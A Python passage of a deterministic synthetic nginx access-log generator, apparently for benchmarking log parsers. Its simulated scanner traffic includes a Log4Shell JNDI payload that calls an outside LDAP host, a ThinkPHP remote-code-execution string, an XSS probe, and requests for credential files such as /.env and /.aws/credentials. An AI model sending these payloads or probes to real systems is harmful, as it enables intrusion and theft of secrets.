#!/usr/bin/env python3
"""Deterministic synthetic nginx access-log generator (standard library only).

Lines are byte-for-byte what nginx writes with ``escape=default``: inside
variable values the bytes 0x00-0x1F, ``"``, ``\\`` and 0x7F-0xFF become
``\\xHH`` (uppercase hex), a missing variable is ``-``, lines end in LF.

Formats (the exact nginx ``log_format`` strings are in ``LOG_FORMATS``):

* ``elb_log``  -- nginx behind an AWS ELB speaking PROXY protocol; the first
  field is ``$proxy_protocol_addr``: ``-`` for the ELB health checks (separate
  port, no PROXY header) and for connections that sent ``PROXY UNKNOWN``.
* ``combined`` -- nginx facing clients directly; LB health checks come from
  10.0.x.x nodes.
* ``main``     -- nginx behind an ALB: ``$remote_addr`` is the ALB node
  (10.0.x.x) and the client is in ``$http_x_forwarded_for`` chains; scanners
  hitting the instance directly show up with their own address and XFF ``-``.
* ``timed``    -- ``main`` plus `` $request_time "$upstream_response_time"``:
  the same lines as ``main`` for the same seed, each with two timing fields
  appended (see ``_timings``). nginx serves ``/health``, ``/static/``, the
  favicon, robots.txt, 304s and its own error pages itself (upstream ``-``)
  and proxies the rest to the application: per-route lognormal latencies
  (``/search`` and order listing slowest), 500s slower, 502s fast and often
  with two tries, 504s at the 60 s ``proxy_read_timeout``, and a few retried
  requests (``"0.050, 0.120"``).

Client addresses come only from documentation ranges (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32); LB/proxy nodes are 10.0.x.x.
Client popularity is Zipf-like over a pool of 300k addresses; each pick is a
"visit" of a few requests, several visits interleave.

CLI::

    python benchmarks/genlog.py --format elb_log --lines 2000000 -o /tmp/x.log

Module::

    from genlog import generate
    with open("x.log", "wb") as f:
        generate("elb_log", 1000, seed=1, out=f)

Output depends only on (format, lines, seed, start, rate) and is
prefix-stable: the first N lines of a longer run equal ``--lines N``.
``--rate`` is the daily mean; the actual rate follows a +-40 % daily cycle
(quietest around 01:40, busiest around 13:40 in the ``--start`` offset).
"""

from __future__ import annotations

import argparse
import datetime as _dt
import functools
import heapq
import itertools
import math
import os
import random
import sys
import time
from typing import BinaryIO

__all__ = ["FORMATS", "LOG_FORMATS", "generate", "main", "nginx_escape"]

LOG_FORMATS = {
    "combined": '$remote_addr - $remote_user [$time_local] "$request" $status '
    '$body_bytes_sent "$http_referer" "$http_user_agent"',
    "main": '$remote_addr - $remote_user [$time_local] "$request" $status '
    '$body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"',
    "elb_log": '$proxy_protocol_addr - $remote_user [$time_local] "$request" '
    '$status $body_bytes_sent "$http_referer" "$http_user_agent"',
    "timed": '$remote_addr - $remote_user [$time_local] "$request" $status '
    '$body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for" '
    '$request_time "$upstream_response_time"',
}
FORMATS = tuple(LOG_FORMATS)
# formats that are another format's lines with fields appended
_BASE_FORMAT = {"timed": "main"}

DEFAULT_START = "2026-11-20T00:00:00+00:00"
DEFAULT_RATE = 25.0  # mean lines per second over a day
DEFAULT_SEED = 1

# ---------------------------------------------------------------------------
# tunables
# ---------------------------------------------------------------------------
CHUNK = 16384  # lines per generation chunk (approximately)
POOL_SIZE = 300_000  # client pool; popularity is Zipf over this pool
ZIPF_S = 1.15
ZIPF_Q = 20.0
VISIT_MEAN = 7.0  # mean requests per client visit (exponential)
SLOT_BITS = 3  # 2**SLOT_BITS client visits are interleaved at any time
REQ_BITS = 12  # each request pool has 2**REQ_BITS precomputed entries
OUT_OF_ORDER = 0.002  # fraction of lines stamped 1-2 s in the past
HEALTH_INTERVAL = 10  # seconds between health checks from one LB node
GARBAGE_GAP = 200  # mean lines between scanner sessions
BURST_GAP = 40_000  # mean lines between 5xx bursts
FIRST_BURST = (300, 1500)  # the first burst starts here so short samples show one

# fmt: off
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
# fmt: on

# ngx_http_log_escape(), default mode
_ESC = [
    chr(b) if 0x20 <= b < 0x7F and b not in (0x22, 0x5C) else f"\\x{b:02X}"
    for b in range(256)
]


def nginx_escape(value: str | bytes) -> str:
    """Escape a variable value the way nginx ``escape=default`` does."""
    if isinstance(value, str):
        value = value.encode("utf-8")
    return "".join([_ESC[b] for b in value])


_REASONS = {
    301: "Moved Permanently",
    302: "Found",
    400: "Bad Request",
    403: "Forbidden",
    404: "Not Found",
    405: "Not Allowed",
    500: "Internal Server Error",
    502: "Bad Gateway",
    503: "Service Temporarily Unavailable",
    504: "Gateway Time-out",
}


def _nginx_page(status: int) -> int:
    """Body size of nginx's built-in error page (server_tokens on, 1.24.0)."""
    r = f"{status} {_REASONS[status]}"
    return len(
        f"<html>\r\n<head><title>{r}</title></head>\r\n<body>\r\n"
        f"<center><h1>{r}</h1></center>\r\n<hr><center>nginx/1.24.0"
        "</center>\r\n</body>\r\n</html>\r\n"
    )


NGINX_PAGE = {s: _nginx_page(s) for s in _REASONS}  # 400 -> 157, 404 -> 153 ...

# ---------------------------------------------------------------------------
# user agents
# ---------------------------------------------------------------------------
_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
_MAC = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"
_CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0"
_SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1"
CHROME_WIN = f"{_WIN} {_CHROME} Safari/537.36"
CHROME_MAC = f"{_MAC} {_CHROME} Safari/537.36"
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) "
    f"{_SAFARI} Mobile/15E148 Safari/604.1"
)
ANDROID = f"Mozilla/5.0 (Linux; Android 10; K) {_CHROME} Mobile Safari/537.36"
FIREFOX_WIN = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"  # noqa: E501
)
FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
SAFARI_MAC = f"{_MAC} {_SAFARI} Safari/605.1.15"
EDGE = f"{CHROME_WIN} Edg/131.0.0.0"
BROWSER_UAS = [  # (weight, ua)
    (16, CHROME_WIN),
    (7, CHROME_MAC),
    (9, IPHONE),
    (9, ANDROID),
    (5, FIREFOX_WIN),
    (2, FIREFOX_LINUX),
    (4, SAFARI_MAC),
    (3, EDGE),
]
# UTF-8 in a header value: nginx writes the raw bytes escaped (\xC3\xA9)
UTF8_UA = "R\u00e9seauMobile/4.2 CFNetwork/1568.200.51 Darwin/24.1.0"
APP_UAS = [  # mobile apps talking to the API: short UAs
    (10, "ExampleApp/5.2.1 (iPhone; iOS 18.1; Scale/3.00)"),
    (8, "okhttp/4.12.0"),
    (5, "ExampleApp/5.2.0 (Android 14; Pixel 7)"),
    (3, "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)"),
    (0.3, UTF8_UA),
]
# a raw '"' inside a header value: nginx writes \x22
QUOTE_UA = 'Mozilla/5.0 (compatible; "LinkChecker"/2.1; +https://www.example.com/bot)'
_GBOT = "compatible; Googlebot/2.1; +http://www.google.com/bot.html"
GOOGLEBOT_UA = f"Mozilla/5.0 ({_GBOT})"
GOOGLEBOT_MOBILE_UA = (
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
    f"(KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 ({_GBOT})"
)
BINGBOT_UA = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
GPTBOT_UA = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; "
    "GPTBot/1.2; +https://openai.com/gptbot"
)
CLAUDEBOT_UA = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "
    "ClaudeBot/1.0; +claudebot@anthropic.com)"
)
SCRIPT_UAS = [
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/7.81.0",
    "Go-http-client/2.0",
]
SCANNER_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/78.0.3904.108 Safari/537.36",
    "${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
    "python-requests/2.25.1",
    None,  # no User-Agent header at all -> "-"
]
HEALTH_UA = "ELB-HealthChecker/2.0"
LB_NODES = ["10.0.1.17", "10.0.2.203", "10.0.3.41"]  # health checkers
ALB_NODES = [
    "10.0.1.17",
    "10.0.1.112",
    "10.0.2.203",
    "10.0.2.58",
    "10.0.3.41",
    "10.0.3.199",
]

# ---------------------------------------------------------------------------
# site content
# ---------------------------------------------------------------------------
ASSETS = [  # (path, size): static files have fixed sizes
    ("/static/app.3f9c1e.js", 184321),
    ("/static/vendor.8a1b2c.js", 412877),
    ("/static/app.77d0e2.css", 48213),
    ("/static/img/logo.svg", 3182),
    ("/static/fonts/inter-var.woff2", 48256),
    ("/static/img/hero.webp", 91234),
    ("/static/img/sprite.png", 21877),
    ("/static/runtime.5b2e90.js", 2391),
]
PAGES = [
    "/",
    "/index.html",
    "/about",
    "/pricing",
    "/cart",
    "/blog/",
    "/blog/2026/11/winter-sale",
    "/contact",
    "/products/",
    "/login",
]
WORDS = [
    "shoes",
    "red",
    "winter",
    "jacket",
    "usb-c",
    "cable",
    "kettle",
    "lamp",
    "desk",
    "chair",
    "socks",
    "gift",
    "coffee",
    "mug",
    "backpack",
    "tent",
]
SLUG_A = ["blue", "red", "classic", "ultra", "mini", "pro", "eco", "vintage", "smart"]
SLUG_B = ["widget", "kettle", "lamp", "backpack", "sneaker", "mug", "chair", "speaker"]
SCAN_PATHS = [
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/admin/.env",
    "/actuator/env",
    "/server-status",
    "/.aws/credentials",
    "/config.json",
    "/owa/auth/logon.aspx",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/xmlrpc.php",
    "/.DS_Store",
    # backslashes are written as \x5C
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
    "&vars[0]=md5&vars[1][]=HelloThinkPHP",
    '/search?q="><script>alert(1)</script>',  # raw quotes -> \x22
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/.well-known/security.txt",
]


def _client_hello(rng: random.Random) -> bytes:
    """A TLS ClientHello sent to the plain-HTTP port, cut at the first CR/LF:
    that is what nginx logs as the request line."""
    hello = bytearray(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    hello += rng.randbytes(32)  # client random
    hello += b"\x20" + rng.randbytes(32)  # session id
    hello += (
        b"\x00\x20\x13\x01\x13\x02\x13\x03\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30"
        b"\xcc\xa9\xcc\xa8\xc0\x13\xc0\x14\x00\x9c\x00\x9d\x00\x2f\x00\x35"
        b"\x01\x00\x01\x93\x00\x00\x00\x14\x00\x12\x00\x00\x0fwww.example.com"
        b"\x00\x17\x00\x00\xff\x01\x00\x01\x00\x00\x0a\x00\x0a"
    )
    for i, b in enumerate(hello):
        if b in (0x0A, 0x0D):
            return bytes(hello[:i])
    return bytes(hello)  # pragma: no cover - the hello always contains 0x0A


# ---------------------------------------------------------------------------
# request pools: each entry is '"$request" $status $body_bytes_sent "$referer"'
# ---------------------------------------------------------------------------
def _wpick(rng: random.Random, items: list[tuple[float, str]]) -> str:
    """Pick from [(weight, value), ...]."""
    x = rng.random() * sum(w for w, _ in items)
    for w, v in items:
        x -= w
        if x < 0:
            return v
    return items[-1][1]


def _req(
    method: str, target: str, proto: str, status: int, size: int, referer: str | None
) -> str:
    if method == "HEAD" or status in (204, 304, 499):
        size = 0
    ref = "-" if referer is None else nginx_escape(referer)
    return f'"{nginx_escape(f"{method} {target} {proto}")}" {status} {size} "{ref}"'


def _uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{h[16:20]}-{h[20:]}"


def _slug(rng: random.Random) -> str:
    return f"{rng.choice(SLUG_A)}-{rng.choice(SLUG_B)}-{rng.randrange(1, 400)}"


def _search(rng: random.Random) -> str:
    r = rng.random()
    if r < 0.03:
        q = "caf\u00e9+mug"  # raw UTF-8 from a sloppy client -> caf\xC3\xA9
    elif r < 0.10:
        q = f"{rng.choice(WORDS)}%20{rng.choice(WORDS)}"
    else:
        q = "+".join(rng.sample(WORDS, rng.randrange(1, 3)))
    if rng.random() < 0.35:
        return f"/search?q={q}&page={rng.randrange(2, 9)}"
    return f"/search?q={q}"


def _site_ref(rng: random.Random) -> str:
    return "https://www.example.com" + rng.choice(PAGES)


def _api_req(rng: random.Random) -> tuple[str, str, int, int]:
    r = rng.random() * 100
    if r < 48:
        path = f"/api/v1/users/{rng.randrange(1, 99999)}"
        x = rng.random()
        if x < 0.03:
            return "GET", path, 404, 45
        if x < 0.05:
            return "GET", path, 401, 38
        return "GET", path, 200, rng.randrange(300, 900)
    if r < 62:
        return "GET", "/api/v1/orders/" + _uuid(rng), 200, rng.randrange(400, 2100)
    if r < 70:
        path = f"/api/v1/orders?page={rng.randrange(1, 6)}&limit=20"
        return "GET", path, 200, rng.randrange(2000, 9000)
    if r < 78:
        if rng.random() < 0.04:
            return "POST", "/api/v1/orders", 400, 81
        return "POST", "/api/v1/orders", 201, rng.randrange(450, 700)
    if r < 83:
        path = f"/api/v1/users/{rng.randrange(1, 99999)}"
        return "PUT", path, rng.choice((200, 204)), 0
    if r < 86:
        return "DELETE", "/api/v1/orders/" + _uuid(rng), 204, 0
    if r < 92:
        uid = rng.randrange(1, 99999)
        path = rng.choice(("/api/v1/orders", f"/api/v1/users/{uid}"))
        return "OPTIONS", path, 204, 0
    if r < 97:
        return "GET", "/api/v1/cart", 200, rng.randrange(120, 1600)
    return "GET", "/api/v1/status", 200, 17


def _browser_req(rng: random.Random) -> str:
    proto = "HTTP/2.0" if rng.random() < 0.06 else "HTTP/1.1"
    r = rng.random() * 100
    ref: str | None = None
    m = "GET"
    if r < 10:  # pages
        path = rng.choice(PAGES[:6])
        st, sz = 200, rng.randrange(8000, 42000)
        x = rng.random()
        if x < 0.55:
            ref = None
        elif x < 0.85:
            ref = _site_ref(rng)
        elif x < 0.95:
            ref = "https://www.google.com/"
        else:
            ref = ""  # empty Referer header -> ""
        if path == "/login" and rng.random() < 0.3:
            m, st, sz = "POST", 302, 0
            if rng.random() < 0.3:
                st, sz = 200, 5611  # wrong password
            ref = "https://www.example.com/login"
        elif rng.random() < 0.03:
            m = "HEAD"
    elif r < 42:  # static assets
        path, size = rng.choice(ASSETS)
        st, sz = (304, 0) if rng.random() < 0.35 else (200, size)
        ref = _site_ref(rng) if rng.random() < 0.45 else None
        if rng.random() < 0.1:
            path += f"?v={rng.randrange(1, 9)}"
    elif r < 46:
        path = "/favicon.ico"
        ref = None if rng.random() < 0.5 else _site_ref(rng)
        st, sz = rng.choice(((200, 15086), (304, 0), (404, NGINX_PAGE[404])))
    elif r < 66:  # API calls from the web app
        m, path, st, sz = _api_req(rng)
        if rng.random() < 0.4:
            ref = _site_ref(rng)
        elif rng.random() < 0.05:
            ref = ""
    elif r < 76:
        path = _search(rng)
        st, sz = 200, rng.randrange(15000, 61000)
        ref = _site_ref(rng) if rng.random() < 0.8 else None
    elif r < 92:
        path = "/products/" + _slug(rng)
        x = rng.random()
        if x < 0.03:
            st, sz = 404, 4512
        elif x < 0.05:
            st, sz = 301, NGINX_PAGE[301]
        else:
            st, sz = 200, rng.randrange(20000, 81000)
        ref = _site_ref(rng) if rng.random() < 0.6 else None
    elif r < 95:
        path, st, sz = "/account", 302, 0
        ref = _site_ref(rng)
    elif r < 98:
        path, st, sz = "/cart", 200, rng.randrange(3000, 9000)
        m = rng.choice(("GET", "POST"))
        ref = _site_ref(rng)
    else:
        path, m, st, sz = "/", "HEAD", 200, 0
    if rng.random() < 0.004:  # client went away
        st = 499
    elif rng.random() < 0.002:  # sporadic upstream errors
        st, sz = rng.choice(
            (
                (500, rng.randrange(60, 140)),
                (502, NGINX_PAGE[502]),
                (504, NGINX_PAGE[504]),
            )
        )
    return _req(m, path, proto, st, sz, ref)


def _app_req(rng: random.Random) -> str:
    m, path, st, sz = _api_req(rng)
    if m == "OPTIONS":  # apps don't preflight
        m, path, st, sz = "GET", "/api/v1/cart", 200, rng.randrange(120, 1600)
    if rng.random() < 0.005:
        st = 499
    return _req(m, path, "HTTP/1.1", st, sz, None)


def _bot_req(rng: random.Random) -> str:
    r = rng.random() * 100
    if r < 45:
        path = "/products/" + _slug(rng)
    elif r < 55:
        path = "/"
    elif r < 62:
        path = "/robots.txt"
    elif r < 68:
        path = "/sitemap.xml"
    elif r < 80:
        path = _search(rng)
    elif r < 90:
        path = f"/blog/2026/{rng.randrange(1, 12):02d}/{rng.choice(WORDS)}"
    else:
        path = rng.choice(PAGES)
    x = rng.random()
    if path == "/robots.txt":
        st, sz = 200, 68
    elif path == "/sitemap.xml":
        st, sz = 200, 31877
    elif x < 0.05:
        st, sz = 404, 4512
    elif x < 0.08:
        st, sz = 301, NGINX_PAGE[301]
    elif x < 0.15:
        st, sz = 304, 0
    else:
        st, sz = 200, rng.randrange(12000, 81000)
    return _req("GET", path, "HTTP/1.1", st, sz, None)


def _script_req(rng: random.Random) -> str:
    r = rng.random() * 100
    if r < 30:
        return _req("GET", "/", "HTTP/1.1", 200, rng.randrange(8000, 42000), None)
    if r < 40:
        return _req("HEAD", "/", "HTTP/1.1", 200, 0, None)
    if r < 50:
        return _req("GET", "/api/v1/status", "HTTP/1.1", 200, 17, None)
    if r < 53:
        return _req("GET", "/a", "HTTP/1.0", 404, 4512, None)
    m, path, st, sz = _api_req(rng)
    return _req(m, path, "HTTP/1.1", st, sz, None)


def _scanner_req(rng: random.Random) -> str:
    path = rng.choice(SCAN_PATHS)
    m = "POST" if path in ("/xmlrpc.php", "/boaform/admin/formLogin") else "GET"
    x = rng.random()
    if path == "/.well-known/security.txt":
        st, sz = 404, NGINX_PAGE[404]
    elif path.startswith("/search"):
        st, sz = 200, rng.randrange(15000, 20000)
    elif x < 0.8:
        st, sz = 404, NGINX_PAGE[404]
    elif x < 0.9:
        st, sz = 403, NGINX_PAGE[403]
    elif x < 0.95:
        st, sz = 405, NGINX_PAGE[405]
    else:
        st, sz = 301, NGINX_PAGE[301]
    proto = "HTTP/1.1" if rng.random() < 0.85 else "HTTP/1.0"
    return _req(m, path, proto, st, sz, None)


def _burst_req(rng: random.Random, status: int, app: bool) -> str:
    """A request caught in a 5xx burst (upstream trouble)."""
    # 500: the application's JSON error; others: nginx's own error page
    sz = rng.randrange(60, 140) if status == 500 else NGINX_PAGE[status]
    ref = None
    if app or rng.random() < 0.7:
        m, path, _, _ = _api_req(rng)
        if not app and rng.random() < 0.4:
            ref = _site_ref(rng)
    else:
        m = "GET"
        path = rng.choice(["/", "/products/" + _slug(rng), _search(rng), "/cart"])
        if rng.random() < 0.5:
            ref = _site_ref(rng)
    return _req(m, path, "HTTP/1.1", status, sz, ref)


def _pool(rng: random.Random, fn) -> list[str]:
    return [fn(rng) for _ in range(1 << REQ_BITS)]


# ---------------------------------------------------------------------------
# timings (format `timed`): ' $request_time "$upstream_response_time"'
# ---------------------------------------------------------------------------
# The site: nginx answers /health itself, serves static files, 304s and its own
# error pages (upstream "-"), and proxies everything else to two application
# servers (`proxy_next_upstream error`: a refused connection is retried on the
# other server, a timeout is not; `proxy_read_timeout 60s`).
STATIC_PREFIXES = ("/static/", "/favicon.ico", "/robots.txt")
# application time per route, (median seconds, lognormal sigma); first match wins
ROUTE_LATENCY: list[tuple[str, str, float, float]] = [  # (method, prefix, ...)
    ("*", "/api/v1/status", 0.002, 0.3),
    ("OPTIONS", "/", 0.001, 0.3),
    ("POST", "/api/v1/orders", 0.180, 0.5),
    ("GET", "/api/v1/orders/", 0.035, 0.5),
    ("*", "/api/v1/orders/", 0.060, 0.5),  # DELETE
    ("GET", "/api/v1/orders", 0.120, 0.7),  # the order list: a slow query
    ("GET", "/api/v1/users/", 0.018, 0.5),
    ("*", "/api/v1/users/", 0.045, 0.5),  # PUT
    ("*", "/api/v1/cart", 0.030, 0.5),
    ("*", "/search", 0.210, 0.75),  # full-text search: the slowest route
    ("POST", "/login", 0.320, 0.2),  # password hashing
    ("*", "/sitemap.xml", 0.450, 0.3),  # generated on the fly
    ("*", "/products/", 0.060, 0.6),
    ("*", "/account", 0.012, 0.4),
    ("*", "/", 0.030, 0.5),  # other pages
]
PROXY_READ_TIMEOUT = 60.0
RETRY_SHARE = 0.004  # proxied requests whose first try failed and were retried
STALL_SHARE = 0.005  # proxied requests 5-20x slower than usual (locks, GC)
# nginx's own 3xx/4xx pages (rewrites, denied locations, bad requests)
_NGINX_PAGES = {(st, sz) for st, sz in NGINX_PAGE.items() if st < 500}


def _ms(seconds: float) -> str:
    return f"{seconds:.3f}"


def _route_latency(method: str, path: str) -> tuple[float, float]:
    """(median, sigma) of the first `ROUTE_LATENCY` entry that matches."""
    for m, prefix, median, sigma in ROUTE_LATENCY:
        if (m == "*" or m == method) and path.startswith(prefix):
            return median, sigma
    return ROUTE_LATENCY[-1][2:]


def _app_time(trng: random.Random, method: str, path: str, status: int) -> float:
    """Seconds the application took for a proxied request."""
    median, sigma = _route_latency(method, path)
    if status == 500:  # errors come late: timeouts inside the app, retries
        median, sigma = 0.400, 0.9
    elif 400 <= status < 500:  # rejected early (auth, validation, not found)
        median *= 0.5
    t = trng.lognormvariate(math.log(median), sigma)
    if trng.random() < STALL_SHARE:
        t *= trng.uniform(5, 20)
    return t


def _timing(trng: random.Random, line: str) -> str:
    """' $request_time "$upstream_response_time"' for one `main` line."""
    q = line.index('] "') + 3
    e = line.index('"', q)  # inner quotes are escaped as \x22
    request = line[q:e].split(" ")
    status = int(line[e + 2 : e + 5])
    size = int(line[e + 6 : line.index(" ", e + 6)])
    method = request[0]
    path = request[1].split("?", 1)[0] if len(request) == 3 else ""
    # sending the body to the client, at a median 8 MB/s
    sending = size / trng.lognormvariate(math.log(8e6), 1.0)
    if path == "/health":  # `return 200` in nginx.conf
        return ' 0.000 "-"'
    if (  # nginx writes the response itself: no upstream
        not path.startswith("/")  # a request line nginx refused
        or status in (304, 503)  # revalidated; rate-limited
        or (status, size) in _NGINX_PAGES
        or path.startswith(STATIC_PREFIXES)
    ):
        if status == 400 and size == 0:  # closed before sending a request line
            return f' {_ms(trng.expovariate(1.0))} "-"'
        return f' {_ms(sending + trng.random() * 0.001)} "-"'
    if status == 504:  # the application did not answer in proxy_read_timeout
        tries = [PROXY_READ_TIMEOUT + trng.random() * 0.004]
    elif status == 502:  # connection refused (fast), or the app died mid-request
        if trng.random() < 0.6:
            tries = [trng.random() * 0.003, trng.random() * 0.003]
        else:
            tries = [trng.lognormvariate(math.log(0.5), 0.8)]
    elif status == 499:  # the client gave up waiting
        tries = [trng.lognormvariate(math.log(2.0), 0.8)]
        sending = 0.0
    else:
        tries = [_app_time(trng, method, path, status)]
        if trng.random() < RETRY_SHARE:  # first server failed, second answered
            tries.insert(0, trng.lognormvariate(math.log(0.05), 0.5))
    tries = [round(t, 3) for t in tries]
    total = sum(tries) + sending + trng.random() * 0.002
    return f' {_ms(total)} "{", ".join(_ms(t) for t in tries)}"'


def _timings(lines: list[str], trng: random.Random) -> None:
    """Append the `timed` fields to each `main` line, in place."""
    for j, line in enumerate(lines):
        lines[j] = line[:-1] + _timing(trng, line) + "\n"


# ---------------------------------------------------------------------------
# clients
# ---------------------------------------------------------------------------
_DB8 = 0x20010DB8 << 96


def _v6(value: int) -> str:
    """An IPv6 address as nginx prints it (ngx_inet6_ntop): lowercase hex
    without leading zeros, the first longest run of >= 2 zero groups as '::'
    (same as ipaddress' .compressed for these addresses)."""
    g = [(value >> sh) & 0xFFFF for sh in (112, 96, 80, 64, 48, 32, 16, 0)]
    best, best_n, i = -1, 1, 0
    while i < 8:
        if g[i]:
            i += 1
            continue
        j = i
        while j < 8 and not g[j]:
            j += 1
        if j - i > best_n:
            best, best_n = i, j - i
        i = j
    h = [f"{x:x}" for x in g]
    if best < 0:
        return ":".join(h)
    return ":".join(h[:best]) + "::" + ":".join(h[best + best_n :])


def _random_v6(rng: random.Random, isps: list[int]) -> str:
    prefix = rng.choice(isps)  # 2001:db8:XXXX::/48
    subnet = rng.getrandbits(16) if rng.random() < 0.6 else rng.randrange(0, 256)
    y = rng.random()
    if y < 0.3:  # temporary / privacy address
        iid = rng.getrandbits(64)
    elif y < 0.5:  # EUI-64 (xxxx:xxff:fexx:xxxx)
        mac = rng.getrandbits(48)
        iid = ((mac >> 24) << 40) | (0xFFFE << 24) | (mac & 0xFFFFFF)
        iid ^= 0x0200 << 48
    else:  # ::n style static address
        iid = rng.randrange(1, 0x400)
    return _v6(_DB8 | (prefix << 80) | (subnet << 64) | iid)


def _v4_all() -> list[str]:
    return [
        f"{net}{i}"
        for net in ("192.0.2.", "198.51.100.", "203.0.113.")
        for i in range(1, 255)
    ]


class _Client:
    __slots__ = ("addr", "kind", "ua", "user", "xff")

    def __init__(
        self,
        addr: str,
        kind: str,
        ua: str | None,
        user: str = "-",
        xff: str | None = None,
    ) -> None:
        self.addr, self.kind, self.ua, self.user, self.xff = addr, kind, ua, user, xff


def _xff_chain(rng: random.Random, addr: str, others: list[str]) -> str:
    x = rng.random()
    if x < 0.82:
        return addr
    if x < 0.88:
        return f"{rng.choice(others)}, {addr}"  # client behind a forward proxy
    if x < 0.91:
        return f"192.0.2.250, {addr}"  # client-forged leftmost entry
    if x < 0.93:
        return f"unknown, {addr}"
    if x < 0.97:  # through an internal proxy before the ALB
        return f"{addr}, 10.0.{rng.randrange(1, 4)}.{rng.randrange(2, 254)}"
    return f"{rng.choice(others)}, {rng.choice(others)}, {addr}"


# the head of the popularity distribution: (rank, addr, kind, ua, user, xff)
_FIXED = [
    (0, "203.0.113.7", "browser", CHROME_WIN, "-", "203.0.113.7"),
    (1, "192.0.2.66", "googlebot", GOOGLEBOT_UA, "-", None),
    (2, "2001:db8::7", "browser", IPHONE, "-", "2001:db8::7"),
    (3, "203.0.113.7", "browser", CHROME_MAC, "-", "198.51.100.9, 203.0.113.7"),
    (4, "198.51.100.22", "browser", ANDROID, "-", "192.0.2.250, 198.51.100.22"),
    (5, "2001:db8:4860:4801::3c", "googlebot", GOOGLEBOT_UA, "-", None),
    (6, "192.0.2.10", "script", "curl/8.5.0", "-", None),
    (7, "192.0.2.17", "browser", CHROME_WIN, "ann smith", None),  # unquoted space
    (8, "198.51.100.5", "browser", FIREFOX_WIN, "-", "unknown, 198.51.100.5"),
    (9, "203.0.113.7", "app", APP_UAS[0][1], "-", "203.0.113.7, 10.0.3.4"),
    (10, "198.51.100.61", "linkchecker", QUOTE_UA, "-", None),
    (11, "198.51.100.40", "bingbot", BINGBOT_UA, "-", None),
    (14, "2001:db8:85a3:12::1f", "gptbot", GPTBOT_UA, "-", None),
    (16, "203.0.113.90", "claudebot", CLAUDEBOT_UA, "-", None),
    (21, "192.0.2.33", "script", "python-requests/2.32.3", "deploy", None),
    (24, "2001:db8:1f0c:a00::35", "app", UTF8_UA, "-", None),
    (27, "203.0.113.150", "browser", SAFARI_MAC, "alice", None),
    (31, "198.51.100.7", "script", "Go-http-client/1.1", "-", None),
    (35, "192.0.2.201", "browser", None, "-", None),  # no User-Agent header
    (41, "2001:db8:4860:4801::2a", "googlebot", GOOGLEBOT_MOBILE_UA, "-", None),
    (46, "203.0.113.44", "app", UTF8_UA, "bob", None),
    (53, "2001:db8:cafe:1::9", "bingbot", BINGBOT_UA, "-", None),
    (70, "192.0.2.88", "gptbot", GPTBOT_UA, "-", None),
    (73, "198.51.100.130", "linkchecker", QUOTE_UA, "-", None),
    (80, "2001:db8:ae21::c1", "claudebot", CLAUDEBOT_UA, "-", None),
]


def _build_clients(rng: random.Random) -> tuple[list[_Client], list[str]]:
    """The client pool, ordered by popularity rank."""
    v4 = _v4_all()
    isps = [rng.getrandbits(16) for _ in range(400)]
    seen = set(v4)
    v6: list[str] = []
    while len(v6) < POOL_SIZE - len(v4):
        a = _random_v6(rng, isps)
        if a not in seen:
            seen.add(a)
            v6.append(a)
    # the IPv4 addresses are spread over the popular head, IPv6 fills the rest
    v4s = v4[:]
    rng.shuffle(v4s)
    v4_ranks = set(rng.sample(range(1200), len(v4s)))
    it4, it6 = iter(v4s), iter(v6)
    order = [next(it4) if rank in v4_ranks else next(it6) for rank in range(POOL_SIZE)]

    clients = []
    for addr in order:
        x = rng.random()
        if x < 0.012:
            c = _Client(addr, "script", rng.choice(SCRIPT_UAS))
        elif x < 0.014:
            c = _Client(addr, "scanner", rng.choice(SCANNER_UAS))
        elif x < 0.75:
            c = _Client(addr, "app", _wpick(rng, APP_UAS))
        else:
            ua = _wpick(rng, BROWSER_UAS)
            y = rng.random()
            if y < 0.004:
                c = _Client(addr, "browser", None)  # no User-Agent header
            elif y < 0.0045:
                c = _Client(addr, "linkchecker", QUOTE_UA)
            else:
                c = _Client(addr, "browser", ua)
        clients.append(c)
    for rank, addr, kind, ua, user, xff in _FIXED:
